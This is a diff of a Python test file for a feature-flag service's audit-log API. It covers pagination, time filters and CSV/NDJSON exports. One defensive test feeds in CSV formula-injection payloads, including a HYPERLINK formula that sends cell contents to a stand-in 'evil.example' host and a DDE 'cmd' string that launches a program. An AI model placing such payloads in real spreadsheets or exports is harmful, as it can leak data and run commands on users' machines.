@@ -14,7 +14,7 @@ from flagsvc.audit import decode_entry
 from flagsvc.commit import AUDIT_FIELDS
 from flagsvc.keys import EnvKeys
 
-ENV = "/api/v1/envs/production"
+from .helpers import ENV_URL
 
 
 @pytest.fixture(scope="module")
@@ -27,7 +27,9 @@ def history(shared):
     }
     flags = [f"f{i}" for i in range(6)]
     for key in flags:
-        client.put(f"{ENV}/flags/{key}", json={"kind": "kill_switch", "enabled": True}, headers=auth("admin"))
+        client.put(
+            f"{ENV_URL}/flags/{key}", json={"kind": "kill_switch", "enabled": True}, headers=auth("admin")
+        )
     rng = random.Random(7)
     state = dict.fromkeys(flags, True)
     for i in range(120):
@@ -35,7 +37,8 @@ def history(shared):
         action = "kill" if state[key] else "restore"
         body = {"reason": f"step {i}", "incident": rng.choice(["INC-1", "INC-2", "INC-3"])}
         assert (
-            client.post(f"{ENV}/flags/{key}/{action}", json=body, headers=operators[who]).status_code == 200
+            client.post(f"{ENV_URL}/flags/{key}/{action}", json=body, headers=operators[who]).status_code
+            == 200
         )
         state[key] = not state[key]
     return [decode_entry(sid, f) for sid, f in r.xrange(EnvKeys("production").audit)]
@@ -45,7 +48,7 @@ def fetch_all(client, auth, query: str, limit: int) -> list[dict]:
     """Every page of a query, following next_cursor."""
     seen, cursor = [], None
     while True:
-        url = f"{ENV}/audit?limit={limit}&{query}" + (f"&cursor={cursor}" if cursor else "")
+        url = f"{ENV_URL}/audit?limit={limit}&{query}" + (f"&cursor={cursor}" if cursor else "")
         resp = client.get(url, headers=auth("reader"))
         assert resp.status_code == 200, resp.json
         page = resp.json
@@ -105,7 +108,7 @@ def test_time_windows(shared, history):
 
 def test_bad_times_are_422(shared, history):
     client, auth = shared.client, shared.auth
-    resp = client.get(f"{ENV}/audit?since=yesterday", headers=auth("reader"))
+    resp = client.get(f"{ENV_URL}/audit?since=yesterday", headers=auth("reader"))
     assert resp.status_code == 422 and resp.json["errors"][0]["field"] == "since"
 
 
@@ -113,14 +116,14 @@ def test_csv_and_ndjson_exports_round_trip(shared, history):
     client, auth = shared.client, shared.auth
     expected = fetch_all(client, auth, "incident=INC-3&order=oldest", 1000)
     ndjson = client.get(
-        f"{ENV}/audit?incident=INC-3&order=oldest",
+        f"{ENV_URL}/audit?incident=INC-3&order=oldest",
         headers={**auth("reader"), "Accept": "application/x-ndjson"},
     )
     assert ndjson.status_code == 200 and ndjson.mimetype == "application/x-ndjson"
     assert [json.loads(line) for line in ndjson.data.decode().splitlines()] == expected
 
     exported = client.get(
-        f"{ENV}/audit?incident=INC-3&order=oldest", headers={**auth("reader"), "Accept": "text/csv"}
+        f"{ENV_URL}/audit?incident=INC-3&order=oldest", headers={**auth("reader"), "Accept": "text/csv"}
     )
     assert exported.status_code == 200 and exported.mimetype == "text/csv"
     rows = list(csv.DictReader(io.StringIO(exported.data.decode())))
@@ -129,7 +132,7 @@ def test_csv_and_ndjson_exports_round_trip(shared, history):
         assert decode_entry(row.pop("id"), row) == entry
     assert list(rows[0]) == list(AUDIT_FIELDS)
 
-    everything = client.get(f"{ENV}/audit", headers={**auth("reader"), "Accept": "application/x-ndjson"})
+    everything = client.get(f"{ENV_URL}/audit", headers={**auth("reader"), "Accept": "application/x-ndjson"})
     assert len(everything.data.decode().splitlines()) == len(history), "an export has no page limit"
 
 
@@ -141,15 +144,15 @@ def test_csv_export_cannot_run_formulas_and_other_exports_keep_the_text(client, 
     quote in the CSV; JSON pages and NDJSON keep the exact text."""
     actor = '=HYPERLINK("http://evil.example/?"&A1)'
     hostile = {"Authorization": f"Bearer {make_token('operator', name=actor)}"}
-    client.put(f"{ENV}/flags/f", json={"kind": "kill_switch", "enabled": True}, headers=auth("admin"))
+    client.put(f"{ENV_URL}/flags/f", json={"kind": "kill_switch", "enabled": True}, headers=auth("admin"))
     sent = []
     for i, start in enumerate(FORMULA_STARTS):
         body = {"reason": f"{start}cmd|' /C calc'!A{i}", "incident": f"{start}1+{i}"}
         action = "restore" if i % 2 else "kill"
-        assert client.post(f"{ENV}/flags/f/{action}", json=body, headers=hostile).status_code == 200
+        assert client.post(f"{ENV_URL}/flags/f/{action}", json=body, headers=hostile).status_code == 200
         sent.append(body)
 
-    url = f"{ENV}/audit?flag=f&order=oldest"
+    url = f"{ENV_URL}/audit?flag=f&order=oldest"
     exported = client.get(url, headers={**auth("reader"), "Accept": "text/csv"})
     create, *rows = csv.DictReader(io.StringIO(exported.data.decode(), newline=""))
     assert [(r["actor"], r["reason"], r["incident"]) for r in rows] == [
